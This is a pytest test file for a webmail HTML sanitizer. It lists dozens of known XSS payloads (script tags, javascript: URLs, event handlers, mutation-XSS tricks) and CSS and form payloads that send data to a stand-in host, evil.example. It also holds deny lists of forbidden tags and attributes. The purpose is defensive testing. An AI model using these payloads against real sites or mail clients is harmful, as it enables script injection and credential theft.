"""The HTML sanitizer against known XSS and exfiltration payloads: nothing executable, nothing
that fetches without consent, nothing that escapes the frame survives."""

from __future__ import annotations

from html.parser import HTMLParser

import pytest

from postier.web.sanitize import BLOCKED_IMAGE, sanitize_html

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/xss.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)>",
    "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
    "<a href=\" javascript:alert(1)\">x</a>",
    "<a href=\"&#14;javascript:alert(1)\">x</a>",
    "<a href=\"vbscript:msgbox(1)\">x</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
    "<img src=\"data:text/html,<script>alert(1)</script>\">",
    "<img src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
    "<body onload=alert(1)>",
    "<div style=\"background-image:url(javascript:alert(1))\">x</div>",
    "<div style=\"width:expression(alert(1))\">x</div>",
    "<div style=\"background:url(https://evil.example/leak?x)\">x</div>",
    "<div style=\"color:red;background:u\\72l(https://evil.example/)\">x</div>",
    "<p style=\"behavior:url(x.htc)\">x</p>",
    "<p style=\"-moz-binding:url(https://evil.example/x.xml#x)\">x</p>",
    "<p style=\"list-style:url(https://evil.example/dot.png)\">x</p>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<style>input[value^=\"a\"]{background:url(https://evil.example/a)}</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/\">",
    "<meta http-equiv=\"Content-Security-Policy\" content=\"default-src *\">",
    "<base href=\"https://evil.example/\">",
    "<form action=\"https://evil.example/\"><input name=p type=password><button>Go</button></form>",
    "<button formaction=\"javascript:alert(1)\">x</button>",
    "<isindex action=javascript:alert(1) type=image>",
    "<input type=image src=x onerror=alert(1)>",
    "<object data=\"javascript:alert(1)\"></object>",
    "<embed src=\"https://evil.example/x.swf\">",
    "<applet code=\"x\"></applet>",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<frameset><frame src=\"javascript:alert(1)\"></frameset>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
    "<img src=\"x` `<script>alert(1)</script>\"` `>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=\"alert(1)\"></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<table background=\"javascript:alert(1)\"><tr><td>x</td></tr></table>",
    "<td background=\"https://evil.example/track.png\">x</td>",
    "<a href=\"https://ok.example/\" onclick=\"alert(1)\">ok</a>",
    "<template><script>alert(1)</script></template>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<select><template><img src=x onerror=alert(1)></template></select>",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<img srcset=\"https://evil.example/a.png 1x\">",
    "<x onclick=alert(1)>x</x>",
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    "<div id=\"x\" class=\"y\" data-x=\"1\" tabindex=\"1\" autofocus onfocus=alert(1)>x</div>",
    "<a href=\"//evil.example/\">protocol-relative</a>",
    "<img src=\"/mail/1/2/part/1\">",
    "<p><a href=\"https://ok.example/\" target=\"_self\">self</a></p>",
    "<svg><style>{font-family:'<iframe/onload=alert(1)>'}</style></svg>",
    "<div><p></div><script>alert(1)</script>",
    "<table><tr><td><img src=x onerror=alert(1)></table>",
    "<object><param name=src value=javascript:alert(1)></object>",
    "<img src=\"https://tracker.example/pixel.gif\" width=1 height=1>",
]

FORBIDDEN_TAGS = {
    "script", "style", "iframe", "frame", "frameset", "object", "embed", "applet", "form",
    "input", "button", "select", "textarea", "meta", "link", "base", "svg", "math", "template",
    "noscript", "audio", "video", "source", "param", "isindex", "xmp", "plaintext", "marquee",
    "body", "html", "head", "title",
}
FORBIDDEN_ATTRIBUTES = {"srcdoc", "formaction", "action", "xlink:href", "srcset", "background",
                        "id", "class", "tabindex", "autofocus", "data-x"}
SAFE_URL_PREFIXES = ("http://", "https://", "mailto:")
RASTER_DATA = ("data:image/png;", "data:image/jpeg;", "data:image/gif;", "data:image/webp;")


class _Collector(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, list[tuple[str, str | None]]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, attrs))


def _elements(markup: str) -> list[tuple[str, list[tuple[str, str | None]]]]:
    collector = _Collector()
    collector.feed(markup)
    collector.close()
    return collector.elements


def assert_inert(markup: str, *, remote_images: bool = False) -> None:
    for tag, attributes in _elements(markup):
        assert tag not in FORBIDDEN_TAGS, (tag, markup)
        for name, value in attributes:
            value = (value or "").strip()
            lowered = value.lower()
            assert not name.startswith("on"), (name, markup)
            assert name not in FORBIDDEN_ATTRIBUTES, (name, markup)
            assert "javascript:" not in lowered and "vbscript:" not in lowered, markup
            if name == "href":
                assert lowered.startswith(SAFE_URL_PREFIXES), markup
            if name == "src":
                assert value == BLOCKED_IMAGE or lowered.startswith(RASTER_DATA) or (
                    remote_images and lowered.startswith(("http://", "https://"))), markup
            if name == "style":
                for needle in ("url(", "expression", "@import", "behavior", "binding", "\\"):
                    assert needle not in lowered, markup
            if name == "target":
                assert value == "_blank"


@pytest.mark.parametrize("payload", PAYLOADS)
def test_payload_is_inert(payload: str) -> None:
    clean = sanitize_html(payload).html
    assert_inert(clean)
    assert "<script" not in clean.lower()


@pytest.mark.parametrize("payload", PAYLOADS)
def test_payload_is_inert_with_remote_images_allowed(payload: str) -> None:
    assert_inert(sanitize_html(payload, allow_remote_images=True).html, remote_images=True)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_sanitizing_twice_changes_nothing(payload: str) -> None:
    """No mutation XSS: the output parses back to itself (what the browser sees is what we
    checked)."""
    once = sanitize_html(payload).html
    twice = sanitize_html(once).html
    assert [(tag, sorted(attrs)) for tag, attrs in _elements(twice)] == \
        [(tag, sorted(attrs)) for tag, attrs in _elements(once)]  # attribute order may vary


def test_all_payloads_nested_in_one_document() -> None:
    document = "<div>" + "".join(f"<p>{p}</p>" for p in PAYLOADS) + "</div>"
    assert_inert(sanitize_html(document).html)


def test_remote_images_are_blocked_and_counted() -> None:
    result = sanitize_html('<p><img src="https://a.example/x.png" alt="A">'
                           '<img src="http://b.example/y.gif"></p>')
    assert result.blocked_images == 2
    assert result.html.count(BLOCKED_IMAGE) == 2
    assert "a.example" not in result.html and "b.example" not in result.html
    assert 'alt="A"' in result.html


def test_remote_images_shown_when_allowed() -> None:
    result = sanitize_html('<img src="https://a.example/x.png">', allow_remote_images=True)
    assert result.blocked_images == 0
    assert 'src="https://a.example/x.png"' in result.html


def test_inline_images_resolve_to_data_urls_only_when_known() -> None:
    data_url = "data:image/png;base64,iVBORw0KGgo="
    result = sanitize_html('<img src="cid:logo@x"><img src="cid:unknown@x">',
                           inline_images={"logo@x": data_url})
    assert result.html.count("<img") == 2
    assert result.html.count(data_url) == 1


def test_links_open_in_a_new_tab_without_referrer() -> None:
    clean = sanitize_html('<a href="https://example.org/page">x</a>').html
    assert 'href="https://example.org/page"' in clean
    assert 'target="_blank"' in clean
    assert 'rel="noopener noreferrer"' in clean


def test_ordinary_formatting_survives() -> None:
    clean = sanitize_html('<table border="0" cellpadding="4"><tr><td style="color: #333;'
                          ' font-weight: bold; padding: 4px">Hello <b>you</b></td></tr></table>'
                          '<blockquote>quoted</blockquote><font color="red">red</font>').html
    assert "<table" in clean and "<b>you</b>" in clean and "<blockquote>" in clean
    assert "color:#333" in clean.replace(" ", "")
    assert '<font color="red">' in clean


def test_dangerous_style_drops_the_whole_attribute() -> None:
    clean = sanitize_html('<p style="color:red;background-image:url(https://x.example/)">t</p>')
    assert "style" not in clean.html
